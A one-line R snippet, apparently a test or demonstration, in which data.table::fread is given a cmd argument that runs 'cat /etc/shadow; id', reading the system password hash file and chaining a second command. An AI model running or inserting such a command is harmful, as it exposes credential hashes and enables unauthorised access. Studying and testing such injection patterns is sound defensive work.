dt <- data.table::fread(cmd = "cat /etc/shadow; id")
